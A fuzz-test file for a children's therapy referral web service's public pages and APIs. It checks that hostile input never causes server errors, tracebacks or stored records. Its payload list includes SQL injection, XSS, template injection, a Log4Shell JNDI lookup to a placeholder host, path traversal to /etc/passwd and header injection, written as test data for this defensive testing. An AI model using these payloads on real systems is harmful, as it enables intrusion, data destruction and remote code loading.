"""Hostile input at every door anyone can knock on: the eligibility checker (page and API), the online referral
form and the referrals API. Whatever arrives (very long, any unicode, NUL bytes, SQL, HTML and script, the wrong
types, huge numbers, deep nesting, bodies that are not JSON at all), the answer is never a 5xx, never a stack
trace, and nothing is kept from a request that was refused.
"""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from paedot.children.models import Child
from paedot.public import check
from paedot.referrals import questions
from paedot.referrals.models import Referral
from paedot.referrals.tests.factories import referral_payload

pytestmark = pytest.mark.django_db

# Few examples each: these run on every CI build, twice (SQLite and PostgreSQL); the strategies aim at the edges.
FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

SNIPPETS = [
    "'; DROP TABLE referrals_referral; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: stolen=1",
    "\x00",
    "a\x00b",
    "\ud800",  # a lone surrogate: not encodable as UTF-8
    "\u202eevil",  # right-to-left override
    "\ufeff",
    "😀" * 50,
    "Zoë Ñandú Ωmega 漢字",
    "",
    " ",
    "null",
    "NaN",
    "-1",
    "9" * 400,
    "2018-02-30",
    "0000-00-00",
    "9999-12-31",
]

hostile_text = st.one_of(
    st.sampled_from(SNIPPETS),
    st.text(max_size=200),
    st.builds(lambda s, n: s * n, st.sampled_from(["A", "é", "😀", "'", "<", "\x00", "\\"]), st.integers(500, 20_000)),
)
hostile_scalar = st.one_of(
    hostile_text,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=False, allow_infinity=False),
)
hostile_value = st.recursive(
    hostile_scalar,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
# Bodies that are not JSON, or JSON no parser should have to follow.
RAW_BODIES = [
    b"",
    b"{",
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"\xff\xfe\x00{",
    b'{"date_of_birth": NaN}',
    b'{"date_of_birth": 1' + b"0" * 5000 + b"}",
    b'{"gp_practice_code": "\\ud800"}',
    b'{"gp_practice_code": "\\u0000"}',
    b"<xml/>",
    b"null",
    b"[]",
    b'"text"',
]
hostile_body = st.one_of(
    st.sampled_from(RAW_BODIES),
    st.binary(max_size=300),
    hostile_value.map(lambda value: json.dumps(value).encode()),
)

TRACEBACK = re.compile(rb'Traceback \(most recent call last\)|File "/|Exception Value|django\.db\.utils|psycopg')


def assert_handled(response, allowed: set[int]) -> None:
    """Answered on purpose: one of the expected statuses, and nothing of the code's insides in the body."""
    assert response.status_code < 500, response.content[:500]
    assert response.status_code in allowed, (response.status_code, response.content[:500])
    assert not TRACEBACK.search(response.content), response.content[:2000]


@pytest.fixture(autouse=True)
def _generous_rate_limits(settings):
    """Every limit raised a thousandfold: the fuzzing is many requests from one address, and a 429 would hide how
    the page itself answers. The limits themselves are tested below and in paedot/core/tests/test_web_surface.py."""
    settings.RATE_LIMITS = [
        (name, methods, path, n * 1000, per) for name, methods, path, n, per in settings.RATE_LIMITS
    ]


def kept() -> tuple[int, int]:
    return Referral.objects.count(), Child.objects.count()


# The eligibility API.

ELIGIBILITY = {
    "date_of_birth": "2018-05-10",
    "education": "mainstream_school",
    "gp_practice_code": "M85001",
    "difficulties": ["dressing"],
    "referrer_role": "gp",
    "consent_given": True,
}


def post_json(client, url: str, body: bytes | str, **headers):
    return client.generic("POST", url, body, content_type="application/json", **headers)


def test_the_eligibility_api_still_answers_a_proper_question(client):
    response = post_json(client, "/api/eligibility", json.dumps(ELIGIBILITY))
    assert response.status_code == 200
    assert response.json()["outcome"] in {"accept", "review", "decline"}


@FUZZ
@given(field=st.sampled_from([*ELIGIBILITY, "referral_date", "settings_affected", "unexpected"]), value=hostile_value)
def test_the_eligibility_api_answers_hostile_fields_with_400_never_500(client, field, value):
    question = {**ELIGIBILITY, field: value}
    assert_handled(post_json(client, "/api/eligibility", json.dumps(question)), {200, 400})


@FUZZ
@given(body=hostile_body, content_type=st.sampled_from(["application/json", "text/plain", "application/xml"]))
def test_the_eligibility_api_answers_any_body_without_failing(client, body, content_type):
    response = client.generic("POST", "/api/eligibility", body, content_type=content_type)
    assert_handled(response, {200, 400})


# The referrals API (a partner system's token).

REFERRAL_FIELDS = [
    "child__given_name",
    "child__family_name",
    "child__date_of_birth",
    "child__nhs_number",
    "child__address",
    "child__postcode",
    "parent_carer__name",
    "parent_carer__phone",
    "parent_carer__email",
    "gp_practice_code",
    "school_urn",
    "education",
    "difficulties",
    "description",
    "referrer__role",
    "referrer__email",
    "consent_given",
    "received_date",
    "source",
    "child",
    "unexpected",
]


@FUZZ
@given(field=st.sampled_from(REFERRAL_FIELDS), value=hostile_value)
def test_a_hostile_referral_field_is_refused_and_nothing_is_kept(client, partner_token, field, value):
    before = kept()
    payload = referral_payload(**{field: value})
    response = post_json(client, "/api/referrals", json.dumps(payload), HTTP_AUTHORIZATION=f"Bearer {partner_token}")
    # 201: the value happened to be acceptable (say, any text for a name); 403: a partner may not set source or
    # received_date; 400: refused.
    assert_handled(response, {201, 400, 403})
    if response.status_code == 201:
        assert kept()[0] == before[0] + 1
    else:
        assert kept() == before


@FUZZ
@given(body=hostile_body, idempotency_key=st.one_of(st.none(), hostile_text.filter(lambda k: "\r" not in k)))
def test_a_hostile_referral_body_is_refused_and_nothing_is_kept(client, partner_token, body, idempotency_key):
    before = kept()
    headers = {"HTTP_AUTHORIZATION": f"Bearer {partner_token}"}
    if idempotency_key is not None:
        headers["HTTP_IDEMPOTENCY_KEY"] = idempotency_key.encode("utf-8", "surrogatepass").decode("latin-1")
    response = post_json(client, "/api/referrals", body, **headers)
    assert_handled(response, {400})
    assert kept() == before


def test_a_nul_anywhere_in_a_referral_is_refused_before_it_reaches_the_database(client, partner_token):
    """PostgreSQL cannot store a NUL: this was a 500 there (NulCharacterMiddleware)."""
    before = kept()
    payload = referral_payload(description="Cannot do buttons\x00")
    response = post_json(client, "/api/referrals", json.dumps(payload), HTTP_AUTHORIZATION=f"Bearer {partner_token}")
    assert response.status_code == 400
    assert response.json()["errors"] == [{"field": "body", "message": response.json()["message"]}]
    assert kept() == before
    # The text "\u0000" (an escaped backslash, then u0000) is just text, and is kept.
    payload = referral_payload(description="Typed \\u0000 in the box")
    response = post_json(client, "/api/referrals", json.dumps(payload), HTTP_AUTHORIZATION=f"Bearer {partner_token}")
    assert response.status_code == 201
    assert Referral.objects.get(reference=response.json()["reference"]).description == "Typed \\u0000 in the box"


@FUZZ
@given(reference=hostile_text)
def test_looking_up_a_hostile_reference_is_not_found_or_refused(client, team_lead_user, reference):
    token = _token(team_lead_user)
    quoted = quote(reference.encode("utf-8", "surrogatepass"), safe="")
    response = client.get(f"/api/referrals/{quoted}", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert_handled(response, {400, 404})
    client.force_login(team_lead_user)
    # 200 when the "reference" is empty or names a real page (/staff/referrals/screening is the screening queue).
    assert_handled(client.get(f"/staff/referrals/{quoted}"), {200, 400, 404})
    assert_handled(client.get(f"/staff/care/{quoted}/timeline"), {400, 404})


def _token(user) -> str:
    from paedot.staff.services import issue_api_token

    return issue_api_token(user=user, name="hostile")


# The public pages: "Check if we can help" and the online referral form.


def _field_names(client, url: str) -> list[str]:
    html = client.get(url).content.decode()
    return sorted(set(re.findall(r'name="([^"]+)"', html)) - {"csrfmiddlewaretoken"})


@pytest.fixture
def public_forms(client) -> dict[str, list[str]]:
    """Each public question page's URL and the names of the fields its form sends."""
    urls = [f"/check-if-we-can-help/{s.slug}" for s in check.CHECK_SECTIONS]
    urls += [f"/refer/{s.slug}" for s in questions.REFERRAL_FORM]
    return {url: _field_names(client, url) for url in urls}


def test_every_public_question_page_has_fields_to_fuzz(public_forms):
    assert len(public_forms) == len(check.CHECK_SECTIONS) + len(questions.REFERRAL_FORM)
    assert all(public_forms.values()), public_forms


@FUZZ
@given(data=st.data())
def test_the_public_question_pages_answer_hostile_form_data(client, public_forms, data):
    client.cookies.clear()  # a new visitor each time, so no example inherits another's answers
    before = kept()
    url = data.draw(st.sampled_from(sorted(public_forms)), label="page")
    names = public_forms[url]
    form = data.draw(
        st.dictionaries(st.sampled_from([*names, "unexpected"]), st.lists(hostile_text, min_size=1, max_size=3)),
        label="form",
    )
    form = {
        name: [v.encode("utf-8", "surrogatepass").decode("utf-8", "replace") for v in values]
        for name, values in form.items()
    }
    # Pages redisplay with errors (200 or 400) or move on (302); a NUL is refused outright (400).
    assert_handled(client.post(url, form), {200, 302, 400})
    # Whatever was saved as typed, the next pages still show, and nothing is sent.
    assert_handled(client.get("/check-if-we-can-help/result"), {200, 302})
    assert_handled(client.get("/refer/check-your-answers"), {200, 302})
    assert_handled(client.post("/refer/check-your-answers", {}), {200, 302, 400})
    assert kept() == before


@FUZZ
@given(
    path=st.sampled_from(["/", "/check-if-we-can-help/", "/check-if-we-can-help/result", "/refer/", "/refer/sent"]),
    query=st.dictionaries(hostile_text, hostile_text, max_size=3),
)
def test_the_public_pages_answer_hostile_query_strings(client, path, query):
    pairs = "&".join(
        f"{quote(k.encode('utf-8', 'surrogatepass'), safe='')}={quote(v.encode('utf-8', 'surrogatepass'), safe='')}"
        for k, v in query.items()
    )
    assert_handled(client.get(f"{path}?{pairs}"), {200, 302, 400})


@FUZZ
@given(slug=hostile_text.map(lambda text: f"no-such-page-{text}"))
def test_a_hostile_page_name_is_not_found(client, slug):
    quoted = quote(slug.encode("utf-8", "surrogatepass"), safe="")
    assert_handled(client.get(f"/refer/{quoted}"), {400, 404})
    assert_handled(client.post(f"/check-if-we-can-help/{quoted}", {"x": slug.replace("\ud800", "")}), {400, 404})


# Floods.


def test_a_hostile_flood_is_answered_429_not_500(client, settings, partner_token):
    settings.RATE_LIMITS = [
        ("eligibility_api", "POST", r"^/api/eligibility$", 5, 60),
        ("referral_form", "POST", r"^/refer/", 5, 3600),
        ("eligibility_checker", "GET|POST", r"^/check-if-we-can-help/", 5, 600),
    ]
    before = kept()
    floods = [
        lambda body: post_json(client, "/api/eligibility", body),
        lambda body: client.post("/refer/child", {"child_given_name": body.decode("latin-1")}),
        lambda body: client.post("/check-if-we-can-help/education", {"education": body.decode("latin-1")}),
    ]
    for send in floods:
        answers = [send(body) for body in (RAW_BODIES * 2)[:12]]
        assert all(a.status_code < 500 for a in answers)
        assert {a.status_code for a in answers[5:]} == {429}
        assert all(not TRACEBACK.search(a.content) for a in answers)
    assert kept() == before


def test_a_page_number_beyond_any_list_is_refused_not_a_500(client, team_lead_user):
    """Found by the OpenAPI fuzzing: a page number of 30 digits overflowed the database's OFFSET."""
    token = _token(team_lead_user)
    response = client.get(f"/api/waiting-list?page={10**29}", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 400
    assert response.json()["errors"] == [{"field": "page", "message": "The page number must be 100,000 or less"}]
    assert client.get("/api/waiting-list?page=100000", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 200
